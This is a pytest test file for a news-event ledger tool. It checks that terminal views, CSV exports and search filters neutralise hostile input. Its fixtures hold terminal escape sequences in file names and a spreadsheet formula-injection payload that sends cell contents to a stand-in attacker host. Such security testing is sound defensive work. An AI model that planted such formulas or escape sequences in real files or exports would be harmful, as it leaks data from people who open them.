"""Outputs are safe to look at and to open; filters are plain text.

Table rows: terminal escape sequences (ESC [) in article text or file names reached the terminal raw in `show`,
`timeline`, `extract --format table`, CSV and rejection lines, and a file name with a newline made a two-line
"one-line" reason; a CSV quote starting with = ran as a formula in a spreadsheet; `--place %`, `--place _`,
`--claimant %` and `--place ""` matched a third to all events, a 60,000-character filter gave a traceback, and
so did invalid UTF-8 in a filter.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from robust_cases import ESC, HOSTILE, KYIV, TERNOPIL, assert_one_line_error, document, kronika

from kronika.errors import FilterError
from kronika.ledger import ingest, list_events, search_documents
from kronika.store import open_store

FORMULA = '=HYPERLINK("http://attacker.test/?leak="&A1,"Click me")'


@pytest.fixture(scope="module")
def hostile_ledger(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "ledger.db"
    text = (f"{FORMULA} Russian missiles hit Ternopil, killing 3 people. "
            f"Drones struck Kyiv {HOSTILE} killing 3 people, said the Unit_5 spokesman.")
    doc = document(
        text,
        [("strike", f"{FORMULA} Russian missiles hit Ternopil, killing 3 people", TERNOPIL),
         ("strike", f"Drones struck Kyiv {HOSTILE} killing 3 people", KYIV)],
        path=f"evil{ESC}]0;owned\x07\nname.txt",
        source=f"Wire{ESC}[2J",
        title=HOSTILE,
        claimant="Unit_5 spokesman",
    )
    with open_store(path) as store:
        ingest(store, [doc])
    return path


def _assert_inert(output: str) -> None:
    assert ESC not in output and "\x07" not in output and "\u202e" not in output


def _event_id(ledger: Path, place: str) -> str:
    with open_store(ledger, readonly=True) as store:
        [row] = list_events(store, place=place)
    return row.event.id


def test_terminal_views_show_control_characters_as_escapes(hostile_ledger: Path) -> None:
    db = str(hostile_ledger)
    kyiv = _event_id(hostile_ledger, "Kyiv")
    for args in (["show", kyiv], ["timeline"], ["events"], ["stats"], ["events", "--format", "csv"]):
        result = kronika(*args, "--db", db)
        assert result.returncode == 0, (args, result.stderr)
        _assert_inert(result.stdout + result.stderr)
    shown = kronika("show", kyiv, "--db", db).stdout
    assert "\\x1b[31mred" in shown and "\\u202eevil" in shown  # visible, not acted on
    assert "[bold red]markup[/]" in shown  # rich markup in a quote is text, not style
    assert "\\nname.txt" in shown  # the file name stays on one line


def test_csv_cells_that_look_like_formulas_are_neutralised(hostile_ledger: Path) -> None:
    result = kronika("events", "--format", "csv", "--db", str(hostile_ledger))
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    summaries = {row["place"]: row["summary"] for row in rows}
    assert summaries["Ternopil"].startswith("'=HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values())
    assert rows[0]["lat"] and float(rows[0]["lat"]) > 0  # numbers stay numbers


def test_extract_table_and_rejection_lines_are_inert_and_one_line_each(tmp_path: Path) -> None:
    (tmp_path / f"story{ESC}[31m\nline.txt").write_text(
        f"KYIV, Nov 19 (Northline Wire) - Russian drones struck Kharkiv {HOSTILE}, killing 3 people, "
        "the governor said."
    )
    (tmp_path / f"empty{ESC}]0;x\x07\nname.txt").write_text("")
    result = kronika("extract", "--format", "table", str(tmp_path))
    assert result.returncode == 1  # the empty file was rejected
    _assert_inert(result.stdout + result.stderr)
    rejections = [line for line in result.stderr.splitlines() if line.startswith("kronika: rejected")]
    assert len(rejections) == 1 and rejections[0].endswith("empty file")
    assert "\\nname.txt" in rejections[0]
    assert "Kharkiv" in result.stdout


# ---------------------------------------------------------------------------------------------- filters


def test_like_wildcards_are_letters(hostile_ledger: Path) -> None:
    with open_store(hostile_ledger, readonly=True) as store:
        assert list_events(store, place="%") == [] and list_events(store, place="_") == []
        assert list_events(store, claimant="%") == [] and list_events(store, claimant="Unit%") == []
        assert len(list_events(store, claimant="it_5")) == 2  # _ matches itself...
        assert list_events(store, claimant="it_6") == [] and list_events(store, claimant="Unit 5") == []  # only
        assert len(list_events(store, place="ternop")) == 1


@pytest.mark.parametrize(
    ("value", "why"),
    [("", "empty"), ("   ", "empty"), ("x" * 60_000, "60,000 characters"), ("Ky\udcffiv", "UTF-8"),
     ("Kyiv\x1b[2J", "control")],
)
def test_bad_filter_values_are_one_line_errors(hostile_ledger: Path, value: str, why: str) -> None:
    with open_store(hostile_ledger, readonly=True) as store, pytest.raises(FilterError, match=why):
        list_events(store, place=value)


def test_the_cli_filters_answer_in_one_line(hostile_ledger: Path) -> None:
    db = str(hostile_ledger)
    for option, value in (("--place", "%"), ("--place", "_"), ("--claimant", "%"), ("--claimant", "Unit%")):
        result = kronika("events", option, value, "--db", db)
        assert result.returncode == 0 and result.stdout.splitlines()[-1] == "0 event(s)", result.stderr
    assert_one_line_error(kronika("events", "--place", "", "--db", db), "empty")
    assert_one_line_error(kronika("events", "--place", "x" * 60_000, "--db", db), "at most")
    assert_one_line_error(kronika("events", "--claimant", b"Ky\xffiv", "--db", db), "UTF-8")
    assert_one_line_error(kronika("show", b"ev-\xff", "--db", db))


def test_full_text_search_values_are_bounded(hostile_ledger: Path) -> None:
    with open_store(hostile_ledger, readonly=True) as store:
        with pytest.raises(FilterError):
            search_documents(store, "Kyiv " * 1_000)
        assert search_documents(store, "Ternopil")
